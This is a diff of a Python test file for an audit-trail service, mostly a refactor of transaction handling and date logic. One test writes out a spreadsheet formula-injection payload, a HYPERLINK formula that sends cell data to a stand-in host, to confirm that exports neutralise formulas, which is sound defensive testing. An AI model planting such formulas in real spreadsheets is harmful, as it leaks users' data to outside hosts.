@@ -12,7 +12,7 @@ import subprocess
 import sys
 import threading
 import time
-from datetime import date, datetime, timedelta
+from datetime import date, timedelta
 from pathlib import Path
 
 import openpyxl
@@ -20,7 +20,6 @@ import pytest
 from sqlalchemy import Engine, select, text
 from sqlalchemy.orm import Session
 
-from db.engine import UnitOfWork
 from db.models import AuditEvent, Case
 from services import words
 from services.administration import admin
@@ -29,7 +28,8 @@ from services.casework import case_view, handling_form
 from services.errors import InvalidInput, NotPermitted
 from services.institution import audit
 from services.institution.directory import create_user
-from services.rules.calendar import SHANGHAI, DayType
+from services.rules.calendar import DayType
+from services.unit_of_work import UnitOfWork, transaction
 from tests.service.conftest import Institution, at
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -82,7 +82,6 @@ def busy_trail(inst: Institution) -> str:
         handling_form.handling_form(uow, inst.users["handler"], ref.case_no)
     with inst.uow() as uow:
         audit.record(uow.session, None, "sign_in_failed", username="无此人", note='引号 " 与 | 竖线')
-        uow.commit()
     return ref.case_no
 
 
@@ -181,9 +180,8 @@ def test_a_cut_tail_is_found_against_the_head_written_down_earlier(futures, owne
 def test_two_writers_at_once_are_put_in_line(futures, engine):
     """A writer whose transaction is open holds the chain; the second waits for it, then links to its row."""
     def second() -> None:
-        with UnitOfWork(engine) as uow:
+        with transaction(engine) as uow:
             audit.record(uow.session, futures.users["supervisor"], "sample_drawn", n=2)
-            uow.commit()
 
     waiting = "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND NOT granted"
     thread = threading.Thread(target=second)
@@ -210,9 +208,8 @@ def test_many_concurrent_writers_leave_a_valid_chain(futures, engine):
     def writer(n: int) -> None:
         start.wait()
         for i in range(10):
-            with UnitOfWork(engine) as uow:
+            with transaction(engine) as uow:
                 audit.record(uow.session, futures.users["admin"], "kpi_weights_set", writer=n, i=i)
-                uow.commit()
 
     threads = [threading.Thread(target=writer, args=(n,)) for n in range(4)]
     for thread in threads:
@@ -239,7 +236,7 @@ def test_a_case_view_is_recorded_once_per_user_and_case_per_ten_minutes(futures)
 
 def test_a_refused_view_records_nothing(futures):
     case_no = futures.intake().case_no
-    with futures.uow() as uow, pytest.raises(NotPermitted):
+    with pytest.raises(NotPermitted), futures.uow() as uow:
         case_view.case_detail(uow, futures.users["outsider"], case_no)
     assert "case_viewed" not in actions(futures)
 
@@ -263,11 +260,11 @@ def test_reveal_print_and_download_are_recorded_against_the_case(futures):
 
 @pytest.mark.parametrize("who", ["clerk", "handler", "head", "trainee"])
 def test_only_admins_and_supervisors_read_the_trail(futures, who):
-    with futures.uow() as uow, pytest.raises(NotPermitted):
+    with pytest.raises(NotPermitted), futures.uow() as uow:
         audit.search(uow, futures.users[who])
-    with futures.uow() as uow, pytest.raises(NotPermitted):
+    with pytest.raises(NotPermitted), futures.uow() as uow:
         audit.export_frame(uow, futures.users[who])
-    with futures.uow() as uow, pytest.raises(NotPermitted):
+    with pytest.raises(NotPermitted), futures.uow() as uow:
         audit.check_chain(uow, futures.users[who])
 
 
@@ -278,7 +275,8 @@ def test_search_filters_by_user_action_case_and_day_and_pages_newest_first(futur
         clerk = audit.search(uow, futures.users["admin"], username="CLE")
         reveals = audit.search(uow, futures.users["admin"], action="pii_revealed", case_no=case_no)
         on_case = audit.search(uow, futures.users["admin"], case_no=case_no)
-        tomorrow = audit.search(uow, futures.users["admin"], date_from=datetime.now(SHANGHAI).date() + timedelta(1))
+        today = uow.session.scalar(text("SELECT (now() AT TIME ZONE 'Asia/Shanghai')::date"))  # most rows' own clock
+        tomorrow = audit.search(uow, futures.users["admin"], date_from=max(today, uow.now().date()) + timedelta(1))
         wildcard = audit.search(uow, futures.users["admin"], username="%")
     assert len(everything.rows) == 3 and everything.total == verify(futures).rows
     assert [r.seq for r in everything.rows] == sorted((r.seq for r in everything.rows), reverse=True)
@@ -289,7 +287,7 @@ def test_search_filters_by_user_action_case_and_day_and_pages_newest_first(futur
 
 
 def test_search_refuses_an_end_before_the_start(futures):
-    with futures.uow() as uow, pytest.raises(InvalidInput) as refused:
+    with pytest.raises(InvalidInput) as refused, futures.uow() as uow:
         audit.search(uow, futures.users["admin"], date_from=date(2026, 11, 2), date_to=date(2026, 11, 1))
     assert refused.value.field == "date_to"
 
@@ -298,7 +296,6 @@ def test_exported_spreadsheets_keep_formulas_inert(futures):
     with futures.uow() as uow:
         evil = create_user(uow, "evil", '=HYPERLINK("http://x.example/?"&A1,"点我")', "kite-harbour9", ["handler"])
         audit.record(uow.session, evil.id, "signed_in", note="@SUM(1+1)")
-        uow.commit()
     with futures.uow() as uow:
         table = audit.export_frame(uow, futures.users["admin"], username="evil")
     sheet = openpyxl.load_workbook(io.BytesIO(audit.to_xlsx(table))).active
